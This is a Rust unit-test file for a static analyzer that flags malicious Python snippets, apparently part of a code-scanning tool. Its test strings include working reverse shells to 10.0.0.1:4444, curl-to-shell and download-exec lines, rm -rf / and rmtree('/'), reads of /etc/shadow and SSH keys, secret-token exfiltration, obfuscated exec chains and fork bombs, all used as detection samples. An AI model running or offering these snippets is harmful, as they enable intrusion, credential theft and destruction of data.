//! Unit tests of the Python analyzer: facts for snippets.

use super::extract;
use crate::analyze::{Budget, Fact, FactKind};

fn facts(code: &str) -> Vec<Fact> {
    extract(code, &Budget::start()).unwrap_or_else(|e| panic!("extract failed: {e}"))
}

fn has(code: &str, kind: FactKind, name: &str) -> bool {
    facts(code).iter().any(|f| f.kind == kind && f.name == name)
}

fn dump(code: &str) -> String {
    facts(code)
        .iter()
        .map(|f| format!("{}:{}{:?}{:?}", f.kind.as_str(), f.name, f.args, f.via))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn smoke() {
    let d = dump("import os\nos.system('id')\n");
    assert!(d.contains("call:os.system"), "{d}");
}

fn signal(code: &str, id: &str) -> bool {
    has(code, FactKind::Signal, id)
}

fn call(code: &str, name: &str) -> bool {
    has(code, FactKind::Call, name)
}

#[test]
fn aliases_resolve() {
    assert!(call("import os as o\no.system('id')", "os.system"));
    assert!(call("from os import system as s\ns('id')", "os.system"));
    assert!(call(
        "from subprocess import *\nPopen(['ls'])",
        "subprocess.Popen"
    ));
    assert!(call("import os\nf = os.system\nf('id')", "os.system"));
    assert!(call("import os\nm = os\nm.system('id')", "os.system"));
    assert!(call(
        "import os.path\nos.path.join('a', 'b')",
        "os.path.join"
    ));
    assert!(has(
        "import urllib.request",
        FactKind::Import,
        "urllib.request"
    ));
    assert!(has("from os import path", FactKind::Import, "os.path"));
    assert!(call(
        "def f():\n    s('id')\nfrom os import system as s\n",
        "os.system"
    ));
    assert!(call("import builtins\nbuiltins.exec(src)", "exec"));
    // A plain constant is analysed as Python, not reported as exec.
    assert!(!call("import builtins\nbuiltins.exec('x=1')", "exec"));
    assert!(call("__builtins__.__dict__['ev'+'al'](src)", "eval"));
    assert!(call(
        "import sys\nsys.modules['os'].system('id')",
        "os.system"
    ));
}

#[test]
fn fragments_resolve_well_known_modules() {
    assert!(call("os.system(cmd)", "os.system"));
    assert!(call("subprocess.Popen(argv)", "subprocess.Popen"));
    assert!(call("urllib.request.urlopen(u)", "urllib.request.urlopen"));
    assert!(call("Popen(argv)", "subprocess.Popen"));
    // A name the snippet binds itself is not the module.
    assert!(!call("def f(os):\n    os.system(cmd)\n", "os.system"));
    assert!(!call("os = Shell()\nos.system(cmd)", "os.system"));
}

#[test]
fn secrets_reaching_uploads_are_exfiltration() {
    assert!(signal(
        "requests.post(u, data={'k': os.getenv('AWS_SECRET_ACCESS_KEY')})",
        "exfiltration"
    ));
    assert!(signal(
        "t = os.environ['GITHUB_TOKEN']\nrequests.put(u, json=dict(t=t))",
        "exfiltration"
    ));
    assert!(!signal(
        "requests.get(u, headers={'Authorization': os.getenv('API_TOKEN')})",
        "exfiltration"
    ));
    assert!(!signal(
        "requests.post(u, data={'region': os.getenv('AWS_REGION')})",
        "exfiltration"
    ));
}

#[test]
fn getattr_and_import_folding() {
    let code = "import os\ngetattr(os, 'sys'+'tem')('id')";
    assert!(call(code, "os.system"), "{}", dump(code));
    assert!(signal(code, "string-obfuscation"));
    assert!(call(
        "getattr(__import__('o'+'s'), 'system')('id')",
        "os.system"
    ));
    assert!(has("__import__('socket')", FactKind::Import, "socket"));
    assert!(has(
        "import importlib\nimportlib.import_module('pty')",
        FactKind::Import,
        "pty"
    ));
    assert!(signal(
        "import importlib\nimportlib.import_module(name)",
        "computed-name"
    ));
    assert!(signal("import os\ngetattr(os, x)('id')", "computed-name"));
    let code = "import os\ngetattr(os, ''.join([chr(115), chr(121), 's', 'tem']))('id')";
    assert!(call(code, "os.system"), "{}", dump(code));
    let code = "import os\ngetattr(os, 'metsys'[::-1])('id')";
    assert!(call(code, "os.system"), "{}", dump(code));
    let code = "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')";
    assert!(call(code, "os.system"), "{}", dump(code));
    let code = "n = 'sys' 'tem'\nimport os\ngetattr(os, n)('id')";
    assert!(call(code, "os.system"), "{}", dump(code));
}

#[test]
fn base64_exec_chain() {
    // exec(base64.b64decode("import os; os.system('id')"))
    let code = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))";
    let f = facts(code);
    let inner = f
        .iter()
        .find(|x| x.kind == FactKind::Call && x.name == "os.system");
    let inner = inner.unwrap_or_else(|| panic!("{}", dump(code)));
    assert_eq!(
        inner.via,
        vec!["exec".to_string(), "base64.b64decode".to_string()]
    );
    assert_eq!(inner.span.start_line, 2);
    assert!(signal(code, "decode-exec"));
    assert!(signal(code, "decoded-payload"));
    let code = "import base64\np = base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=').decode()\nexec(p)";
    assert!(call(code, "os.system"), "{}", dump(code));
    let code = "import zlib, base64\nexec(zlib.decompress(base64.b64decode(blob)))";
    assert!(signal(code, "decode-exec"), "{}", dump(code));
    assert!(signal("eval(input())", "dynamic-code"));
    assert!(!signal("exec('x = 1')", "dynamic-code"));
}

#[test]
fn shell_strings() {
    let code = "import subprocess\nsubprocess.run('curl http://x | sh', shell=True)";
    assert!(has(code, FactKind::Command, "curl"), "{}", dump(code));
    assert!(signal(code, "pipe-to-shell"), "{}", dump(code));
    let code = "import subprocess\nsubprocess.run(['curl', '-o', '/tmp/x', 'http://e'])";
    let f = facts(code);
    assert!(
        f.iter()
            .any(|x| x.kind == FactKind::Command && x.name == "curl" && x.args.len() == 3),
        "{}",
        dump(code)
    );
    let code = "import subprocess\nsubprocess.call(['/bin/bash', '-c', 'rm -rf /'])";
    assert!(signal(code, "recursive-delete-root"), "{}", dump(code));
    let code = "import os\nos.system('python3 -c \"import os\"')";
    assert!(has(code, FactKind::Command, "python3"), "{}", dump(code));
}

#[test]
fn call_args() {
    let code = "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))";
    let f = facts(code);
    assert!(
        f.iter().any(|x| x.kind == FactKind::Call
            && x.name == "socket.socket.connect"
            && x.args == ["10.0.0.1", "4444"]),
        "{}",
        dump(code)
    );
    let code = "import os\nos.setuid(0)";
    assert!(facts(code)
        .iter()
        .any(|x| x.name == "os.setuid" && x.args == ["0"]));
    assert!(signal("import os\nos.chmod('/tmp/x', 0o4755)", "setuid"));
    assert!(signal(
        "import os, stat\nos.chmod('/tmp/x', stat.S_ISUID | 0o755)",
        "setuid"
    ));
    assert!(!signal("import os\nos.chmod('/tmp/x', 0o755)", "setuid"));
    assert!(signal("open('/etc/shadow').read()", "sensitive-path"));
    assert!(signal(
        "import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()",
        "sensitive-path"
    ));
    assert!(signal(
        "open('/etc/passwd', 'a').write('x')",
        "sensitive-write"
    ));
    assert!(signal(
        "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')",
        "cloud-metadata"
    ));
}

#[test]
fn techniques() {
    let rs = "import socket, os, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(['/bin/sh', '-i'])";
    assert!(signal(rs, "reverse-shell"), "{}", dump(rs));
    let rs2 = "import socket, pty\ns = socket.create_connection(('h', 1))\npty.spawn('/bin/bash')";
    assert!(signal(rs2, "reverse-shell"), "{}", dump(rs2));
    let rs3 = "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nsubprocess.Popen(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno())";
    assert!(signal(rs3, "reverse-shell"), "{}", dump(rs3));
    assert!(signal("import os\nwhile True:\n    os.fork()", "fork-bomb"));
    assert!(signal(
        "import os\ndef f():\n    os.fork()\n    f()\nf()",
        "fork-bomb"
    ));
    assert!(signal(
        "import os\ndef f():\n    os.fork()\nwhile 1:\n    f()",
        "fork-bomb"
    ));
    assert!(signal("while True:\n    pass", "infinite-loop"));
    assert!(!signal(
        "while True:\n    if x:\n        break",
        "infinite-loop"
    ));
    assert!(signal("import os\nprint(dict(os.environ))", "env-harvest"));
    assert!(signal(
        "import os\nfor k, v in os.environ.items():\n    pass",
        "env-harvest"
    ));
    assert!(!signal(
        "import os\nx = os.environ.get('HOME')",
        "env-harvest"
    ));
    assert!(!signal(
        "import os, subprocess\nsubprocess.run(['ls'], env=os.environ)",
        "env-harvest"
    ));
    assert!(signal(
        "().__class__.__bases__[0].__subclasses__()",
        "reflection"
    ));
    assert!(signal("g = globals()", "reflection"));
    assert!(signal(
        "import requests\nexec(requests.get('http://x').text)",
        "download-exec"
    ));
    let dl = "import urllib.request, os\nurllib.request.urlretrieve('http://x/a', '/tmp/a')\nos.system('sh /tmp/a')";
    assert!(signal(dl, "download-exec"), "{}", dump(dl));
    assert!(signal(
        "import shutil\nshutil.rmtree('/')",
        "recursive-delete-root"
    ));
    assert!(signal("x = 'A' * (10 ** 10)", "resource-exhaustion"));
    assert!(signal("import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nwhile True:\n    c = s.recv(1024)\n    subprocess.check_output(c, shell=True)", "reverse-shell"));
}

#[test]
fn clean_lookalikes() {
    for code in [
        "model.eval()",
        "import re\nre.compile('x+')",
        "import ast\nast.literal_eval('[1]')",
        "import json\njson.loads('{}')",
        "print('rm -rf /')",
        "def execute_query(q):\n    return q\nexecute_query('select 1')",
        "class C:\n    def exec_command(self, c):\n        pass\nC().exec_command('ls')",
        "def f():\n    '''exec(base64.b64decode(x)) os.system /etc/shadow'''\n    return 1",
        "# os.system('rm -rf /')\nx = 1",
        "x = 'eval'\nprint(x)",
        "def eval(x):\n    return x\neval('1')",
    ] {
        let f = facts(code);
        let bad: Vec<&Fact> = f
            .iter()
            .filter(|x| {
                matches!(x.kind, FactKind::Signal | FactKind::Command)
                    || (x.kind == FactKind::Call
                        && matches!(x.name.as_str(), "eval" | "exec" | "compile" | "os.system"))
            })
            .collect();
        assert!(bad.is_empty(), "{code}: {bad:?}");
    }
}

#[test]
fn errors_and_bounds() {
    let e = extract("def f(:\n", &Budget::start()).unwrap_err();
    assert!(
        matches!(e, crate::analyze::AnalyzeError::Unparseable { line: 1, .. }),
        "{e:?}"
    );
    let deep = format!("x = {}1{}", "(".repeat(100_000), ")".repeat(100_000));
    assert!(matches!(
        extract(&deep, &Budget::start()),
        Err(crate::analyze::AnalyzeError::TooDeep { .. })
    ));
    let deep = format!("x = {}1{}", "[".repeat(100_000), "]".repeat(100_000));
    assert!(matches!(
        extract(&deep, &Budget::start()),
        Err(crate::analyze::AnalyzeError::TooDeep { .. })
    ));
    let chain = format!("x = 1{}", "+1".repeat(200_000));
    let r = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || extract(&chain, &Budget::start()).map(|f| f.len()))
        .unwrap()
        .join();
    assert!(r.is_ok(), "long chain overflowed");
    let unary = format!("x = {}1", "-".repeat(200_000));
    let r = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || extract(&unary, &Budget::start()).is_err())
        .unwrap()
        .join();
    assert!(r.is_ok(), "unary chain overflowed");
}
